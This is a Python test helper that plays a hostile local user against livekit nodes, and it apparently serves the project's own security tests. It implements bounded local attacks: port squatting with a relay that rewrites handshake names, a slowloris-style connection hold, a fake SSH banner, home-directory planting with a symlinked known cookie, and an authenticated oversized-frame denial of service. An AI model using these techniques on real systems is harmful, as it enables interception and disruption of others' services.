"""Attacks on livekit's nodes, run by another local user (standard library only).

``test_node_attacks.py`` copies this file to a world-readable folder and runs
it as uid 65534 with ``setpriv``, as an unprivileged user of the machine
would run it. It knows nothing of livekit but what crosses the wire. Every
attack is bounded: it stops after its duration, or as soon as its standard
input closes, and then prints one JSON line saying what it saw.

    python node_attacker.py relay PORT TARGET_PORT [NAME]
    python node_attacker.py unix-listen PATH
    python node_attacker.py slow PORT COUNT INTERVAL
    python node_attacker.py banner
    python node_attacker.py plant-home HOME COOKIE_VALUE
    python node_attacker.py make-dir PATH
    python node_attacker.py big-frame PORT COOKIE
"""

from __future__ import annotations

import contextlib
import hashlib
import hmac
import json
import os
import secrets
import selectors
import socket
import struct
import sys
import threading
import time

DURATION = 30.0  # no attack outlives this, whatever the test does


def say(**fields: object) -> None:
    print(json.dumps(fields), flush=True)


def stopped() -> threading.Event:
    """An event set when the test closes our stdin, or the duration passes."""
    event = threading.Event()

    def watch() -> None:
        sys.stdin.read()
        event.set()

    threading.Thread(target=watch, daemon=True).start()
    timer = threading.Timer(DURATION, event.set)
    timer.daemon = True
    timer.start()
    return event


def frame(payload: bytes) -> bytes:
    return struct.pack("!i", len(payload)) + payload


def read_frame(sock: socket.socket) -> bytes:
    header = b""
    while len(header) < 4:
        chunk = sock.recv(4 - len(header))
        if not chunk:
            raise EOFError
        header += chunk
    (size,) = struct.unpack("!i", header)
    body = b""
    while len(body) < size:
        chunk = sock.recv(size - len(body))
        if not chunk:
            raise EOFError
        body += chunk
    return body


def relay(port: int, target_port: int, name: str = "") -> None:
    """Squat a dead node's port and relay every connection to a live node.

    With ``name``, rewrite the live node's challenge to announce that name
    (the dead node's), as a relay must to pass the client's name check.
    """
    stop = stopped()
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", port))
    server.listen(8)
    server.settimeout(0.1)
    say(ready=True)
    seen = {"connections": 0, "from_node": [], "from_client": []}

    def pump(src: socket.socket, dst: socket.socket, log: list[str], rewrite: bool) -> None:
        try:
            first = True
            while True:
                data = read_frame(src)
                if rewrite and first and data.startswith(b"livekit-challenge 1 "):
                    head, _, _ = data.rpartition(b" ")
                    data = head + b" " + name.encode()
                first = False
                log.append(data[:40].decode("latin-1"))
                dst.sendall(frame(data))
        except (OSError, EOFError):
            pass
        finally:
            for sock in (src, dst):
                with contextlib.suppress(OSError):
                    sock.shutdown(socket.SHUT_RDWR)

    threads = []
    while not stop.is_set():
        try:
            client, _ = server.accept()
        except TimeoutError:
            continue
        seen["connections"] += 1  # type: ignore[operator]
        client.settimeout(None)
        try:
            upstream = socket.create_connection(("127.0.0.1", target_port))
        except OSError:
            client.close()
            continue
        for args in (
            (upstream, client, seen["from_node"], bool(name)),
            (client, upstream, seen["from_client"], False),
        ):
            thread = threading.Thread(target=pump, args=args, daemon=True)
            thread.start()
            threads.append(thread)
    for thread in threads:
        thread.join(2)
    say(**seen)


def unix_listen(path: str) -> None:
    """Serve a Unix socket where a node's should be, and record what arrives."""
    stop = stopped()
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    os.chmod(path, 0o777)
    server.listen(8)
    server.settimeout(0.1)
    say(ready=True, pid=os.getpid())
    connections, received = 0, 0
    while True:
        try:
            client, _ = server.accept()
        except TimeoutError:
            if stop.is_set():  # and nothing left in the backlog
                break
            continue
        connections += 1
        client.settimeout(1.0)
        try:
            while chunk := client.recv(4096):
                received += len(chunk)
        except OSError:
            pass
        client.close()
    say(connections=connections, received=received)


def slow(port: int, count: int, interval: float) -> None:
    """Hold ``count`` connections open, sending one byte every ``interval`` s.

    Closed ones are opened again at once. Reports how many were opened and
    how long the longest one lived.
    """
    stop = stopped()
    selector = selectors.DefaultSelector()
    born: dict[socket.socket, float] = {}
    opened, longest, failed = 0, 0.0, 0

    def open_one() -> None:
        nonlocal opened, failed
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=2)
        except OSError:
            failed += 1
            return
        sock.setblocking(False)
        selector.register(sock, selectors.EVENT_READ)
        born[sock] = time.monotonic()
        opened += 1

    for _ in range(count):
        open_one()
    say(ready=True, opened=opened)
    next_byte = time.monotonic()
    while not stop.is_set():
        for key, _ in selector.select(timeout=0.05):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                data = sock.recv(4096)
            except OSError:
                data = b""
            if not data:  # the node closed it: note its age, and come back
                longest = max(longest, time.monotonic() - born.pop(sock))
                selector.unregister(sock)
                sock.close()
                open_one()
        if time.monotonic() >= next_byte:
            next_byte += interval
            for sock in list(born):
                with contextlib.suppress(OSError):
                    sock.send(b"\x00")  # one byte of a frame header that never ends
    now = time.monotonic()
    oldest_open = max((now - started for started in born.values()), default=0.0)
    say(
        opened=opened,
        failed=failed,
        longest_closed=round(longest, 3),
        oldest_open=round(oldest_open, 3),
        still_open=len(born),
    )


def banner() -> None:
    """Listen on a free port and greet every connection like an SSH server."""
    stop = stopped()
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    say(ready=True, port=server.getsockname()[1])
    greeted = 0
    while not stop.is_set():
        try:
            client, _ = server.accept()
        except TimeoutError:
            continue
        client.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
        greeted += 1
        time.sleep(0.2)
        client.close()
    say(greeted=greeted)


def plant_home(home: str, cookie_value: str) -> None:
    """Create a livekit home before its user does, with a cookie we know.

    The cookie is a symbolic link to a file of ours, so that owner and mode
    checks on the path would see the user's expectations met nowhere.
    """
    os.makedirs(home, mode=0o777)
    os.chmod(home, 0o777)
    known = os.path.join(home, ".known-cookie")
    with open(known, "w") as file:
        file.write(cookie_value + "\n")
    os.chmod(known, 0o600)
    os.symlink(known, os.path.join(home, "cookie"))
    os.makedirs(os.path.join(home, "nodes"), mode=0o777)
    os.chmod(os.path.join(home, "nodes"), 0o777)
    say(ready=True, planted=sorted(os.listdir(home)))


def make_dir(path: str) -> None:
    """Create a folder that everyone may write to, before its user does."""
    os.makedirs(path, mode=0o777)
    os.chmod(path, 0o777)
    say(ready=True)


def big_frame(port: int, cookie: str) -> None:
    """Log in with the cookie, then declare a frame of 2**62 bytes."""
    say(ready=True)
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    challenge = read_frame(sock)
    _, _, nonce_hex, server = challenge.split(b" ")
    client = b"intruder@localhost"
    nonce_c = secrets.token_bytes(32)

    def mac(direction: bytes) -> bytes:
        fields = (b"livekit-node-handshake", b"1", direction, client, server)
        message = b"\0".join(fields) + b"\0" + bytes.fromhex(nonce_hex.decode()) + nonce_c
        return hmac.new(cookie.encode(), message, hashlib.sha256).hexdigest().encode()

    proof = mac(b"client-to-server")
    answer = b" ".join((b"livekit-answer", b"1", nonce_c.hex().encode(), client, proof))
    sock.sendall(frame(answer))
    welcome = read_frame(sock)
    sock.sendall(struct.pack("!iQ", -1, 2**62) + b"x" * 64)
    try:
        closed = sock.recv(1) == b""
    except ConnectionResetError:
        closed = True
    say(welcomed=welcome.startswith(b"livekit-welcome 1 "), closed=closed)


COMMANDS = {
    "relay": lambda port, target, name="": relay(int(port), int(target), name),
    "unix-listen": unix_listen,
    "slow": lambda port, count, interval: slow(int(port), int(count), float(interval)),
    "banner": banner,
    "plant-home": plant_home,
    "make-dir": make_dir,
    "big-frame": lambda port, cookie: big_frame(int(port), cookie),
}

if __name__ == "__main__":
    COMMANDS[sys.argv[1]](*sys.argv[2:])
